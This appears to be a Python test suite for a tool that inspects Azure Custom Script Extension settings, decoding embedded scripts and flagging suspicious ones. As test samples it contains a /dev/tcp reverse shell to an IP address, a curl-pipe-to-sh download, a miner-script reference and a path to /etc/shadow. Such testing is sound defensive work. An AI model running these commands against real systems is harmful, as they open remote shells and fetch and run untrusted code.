"""Custom Script Extension: Windows, Linux v2 and the legacy OSTC handler."""

from __future__ import annotations

import base64

from inspector.extensions import ScriptRole, UrlRole
from inspector.model import ArtifactType

from tests.extensions.samples import b64_gzip, cse_linux_benign, cse_linux_miner, cse_windows_benign, cse_windows_malicious, plan


def test_windows_cse_plans_the_protected_command_as_cmd_and_finds_the_entry_point_by_name():
    p = plan(cse_windows_benign())
    assert p.kind == "custom_script_windows" and p.recognised
    assert (p.publisher, p.type, p.type_handler_version) == ("Microsoft.Compute", "CustomScriptExtension", "1.10")
    [command] = p.scripts
    assert command.origin == "protectedSettings.commandToExecute"
    assert command.role is ScriptRole.COMMAND and command.language is ArtifactType.CMD
    roles = {u.origin: u.role for u in p.urls}
    # the command runs configure-iis.ps1, the second fileUri: that is the entry point
    assert roles == {"protectedSettings.fileUris[0]": UrlRole.PAYLOAD, "protectedSettings.fileUris[1]": UrlRole.ENTRY_POINT}
    assert p.entry_point == "protectedSettings.fileUris[1]"
    assert all(u.language is ArtifactType.POWERSHELL for u in p.urls)
    assert p.context.subscription_id is not None and p.context.resource_id.endswith("/extensions/ConfigureIIS")
    assert p.findings == [] and p.problems == []


def test_windows_cse_with_only_a_protected_command_is_a_low_score_signal():
    p = plan(cse_windows_malicious())
    assert [f.id for f in p.findings] == ["structure.custom_script.protected_command_only"]
    finding = p.findings[0]
    assert finding.source == "structure" and finding.artifact is None and 0 < finding.score < 100
    assert "net localgroup administrators" in p.scripts[0].content.decode()


def test_public_command_does_not_raise_the_protected_only_signal():
    body = cse_windows_malicious()
    body["properties"]["settings"] = {"commandToExecute": "hostname"}
    assert plan(body).findings == []


def test_linux_script_is_base64_then_gzip_decoded():
    p = plan(cse_linux_benign())
    assert p.kind == "custom_script_linux"
    [script] = p.scripts
    assert script.origin == "protectedSettings.script" and script.role is ScriptRole.INLINE_SCRIPT
    assert script.layers == ["base64", "gzip"] and script.language is ArtifactType.SHELL
    assert script.content.startswith(b"#!/bin/sh\napt-get update")
    assert p.problems == []


def test_linux_script_plain_base64_without_gzip():
    body = cse_linux_benign()
    body["protectedSettings"]["script"] = base64.b64encode(b"echo hello\n").decode()
    [script] = plan(body).scripts
    assert script.layers == ["base64"] and script.content == b"echo hello\n"


def test_linux_miner_command_and_file_uri_planned_with_shell_hint():
    p = plan(cse_linux_miner())
    [command] = p.scripts
    assert command.origin == "settings.commandToExecute" and command.language is ArtifactType.SHELL
    assert b"xmrig.sh | sh" in command.content
    # the command names no fileUri: the first one is the entry point
    assert [(u.origin, u.role) for u in p.urls] == [("settings.fileUris[0]", UrlRole.ENTRY_POINT)]
    assert p.entry_point == "settings.fileUris[0]"


def test_legacy_ostc_custom_script_for_linux():
    body = {
        "publisher": "Microsoft.OSTCExtensions",
        "type": "CustomScriptForLinux",
        "typeHandlerVersion": "1.5",
        "settings": {"fileUris": ["https://deployacct.blob.core.windows.net/s/setup.sh", "https://deployacct.blob.core.windows.net/s/app.tar.gz"],
                     "commandToExecute": "bash setup.sh --prod"},
    }
    p = plan(body)
    assert p.kind == "custom_script_linux_legacy"
    assert p.scripts[0].language is ArtifactType.SHELL
    assert [u.role for u in p.urls] == [UrlRole.ENTRY_POINT, UrlRole.PAYLOAD]


def test_entry_point_matches_paths_and_quotes_in_the_command():
    body = cse_linux_miner()
    body["settings"]["fileUris"].insert(0, "https://deployacct.blob.core.windows.net/s/lib.sh")
    body["settings"]["commandToExecute"] = "sh -c 'chmod +x ./start.sh && ./start.sh'"
    p = plan(body)
    assert p.entry_point == "settings.fileUris[1]"


def test_keys_are_matched_ignoring_case():
    body = {
        "Publisher": "microsoft.compute",
        "TYPE": "customScriptExtension",
        "Settings": {"FileUris": ["https://a.example.org/run.ps1"], "CommandToExecute": "powershell -File run.ps1"},
    }
    p = plan(body)
    assert p.kind == "custom_script_windows"
    assert p.scripts[0].origin == "settings.commandToExecute"
    assert p.urls[0].origin == "settings.fileUris[0]" and p.urls[0].role is UrlRole.ENTRY_POINT


def test_extension_is_identified_by_publisher_and_type_never_by_name():
    body = cse_windows_benign()
    body["name"] = "CustomScriptExtension"
    body["properties"]["type"] = "SomethingElse"
    assert plan(body).kind == "unrecognised_extension"


def test_scale_set_and_hybrid_compute_envelopes():
    for rtype in ("Microsoft.Compute/virtualMachineScaleSets/extensions", "Microsoft.HybridCompute/machines/extensions"):
        body = cse_windows_benign()
        body["type"] = rtype
        assert plan(body).kind == "custom_script_windows"


def test_wrong_types_are_tolerated_when_the_meaning_is_clear():
    body = {
        "publisher": "Microsoft.Compute", "type": "CustomScriptExtension",
        "settings": {"fileUris": "https://a.example.org/x.ps1", "commandToExecute": 12345},
    }
    p = plan(body)
    assert p.urls[0].origin == "settings.fileUris" and p.urls[0].role is UrlRole.ENTRY_POINT
    assert p.scripts[0].content == b"12345"
    assert p.problems == []


def test_wrong_types_without_clear_meaning_are_problems_not_exceptions():
    body = {
        "publisher": "Microsoft.Compute", "type": "CustomScriptExtension",
        "settings": {"fileUris": [42, {"u": 1}, "https://a.example.org/ok.ps1"], "commandToExecute": {"cmd": "whoami /all"}},
        "protectedSettings": ["not", "an", "object"],
    }
    p = plan(body)
    kinds = [(q.kind, q.origin) for q in p.problems]
    assert ("wrong_type", "settings.fileUris[0]") in kinds
    assert ("wrong_type", "settings.fileUris[1]") in kinds
    assert ("wrong_type", "settings.commandToExecute") in kinds
    assert ("wrong_type", "protectedSettings") in kinds
    # what could still be read is planned: the valid URL and the command inside the object
    assert [u.url for u in p.urls] == ["https://a.example.org/ok.ps1"]
    assert any(s.content == b"whoami /all" for s in p.scripts)


def test_non_http_file_uris_are_problems_never_fetched():
    body = cse_linux_miner()
    body["settings"]["fileUris"] = ["file:///etc/shadow", "ftp://198.51.100.1/x"]
    p = plan(body)
    assert p.urls == []
    assert [q.kind for q in p.problems] == ["invalid_url", "invalid_url"]


def test_invalid_base64_script_is_a_problem_and_the_raw_text_is_scanned():
    body = cse_linux_benign()
    body["protectedSettings"]["script"] = "curl http://198.51.100.4/x | sh"
    p = plan(body)
    assert [q.kind for q in p.problems] == ["invalid_base64"]
    assert p.problems[0].origin == "protectedSettings.script"
    assert p.scripts[0].content == b"curl http://198.51.100.4/x | sh" and p.scripts[0].layers == []


def test_invalid_gzip_script_is_a_problem_and_the_raw_text_is_scanned():
    body = cse_linux_benign()
    corrupt = base64.b64encode(b"\x1f\x8b\x08\x00" + b"\xff" * 40).decode()
    body["protectedSettings"]["script"] = corrupt
    p = plan(body)
    assert [q.kind for q in p.problems] == ["invalid_gzip"]
    assert p.scripts[0].content == corrupt.encode() and p.scripts[0].layers == []


def test_truncated_gzip_keeps_what_was_decompressed():
    body = cse_linux_benign()
    full = base64.b64decode(b64_gzip("echo one\n" * 2000))
    body["protectedSettings"]["script"] = base64.b64encode(full[: len(full) // 2]).decode()
    p = plan(body)
    assert [q.kind for q in p.problems] == ["invalid_gzip"]
    assert p.scripts[0].layers == ["base64", "gzip"] and p.scripts[0].content.startswith(b"echo one\n")


def test_a_key_spelled_twice_in_different_cases_is_planned_twice():
    body = {"publisher": "Microsoft.Compute", "type": "CustomScriptExtension",
            "protectedSettings": {"commandToExecute": "hostname", "CommandToExecute": "powershell -enc SQBFAFgA"}}
    p = plan(body)
    assert [(s.origin, s.content) for s in p.scripts] == [
        ("protectedSettings.commandToExecute", b"hostname"),
        ("protectedSettings.CommandToExecute", b"powershell -enc SQBFAFgA"),
    ]


def test_an_oversized_script_keeps_its_head_and_its_tail_and_says_so():
    from inspector.extensions.limits import RequestLimits
    from inspector.extensions.request import InputKind, InspectionInput
    from inspector.extensions.understand import understand

    limit = 64 * 1024
    script = b"echo start\n" + b"# pad\n" * (limit // 3) + b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
    for encoded, layers in ((b64_gzip(script.decode()), ["base64", "gzip"]),
                            (base64.b64encode(script).decode(), ["base64"])):
        body = cse_linux_benign()
        body["protectedSettings"]["script"] = encoded
        p = understand(InspectionInput(kind=InputKind.EXTENSION, body=body),
                       RequestLimits(max_inline_script_bytes=limit))
        [kept] = p.scripts
        assert kept.layers == layers and len(kept.content) == limit
        assert kept.content.startswith(b"echo start\n") and kept.content.endswith(b"0>&1\n")
        assert [q.kind for q in p.problems] == ["too_large"] and p.problems[0].leaves_content_unread
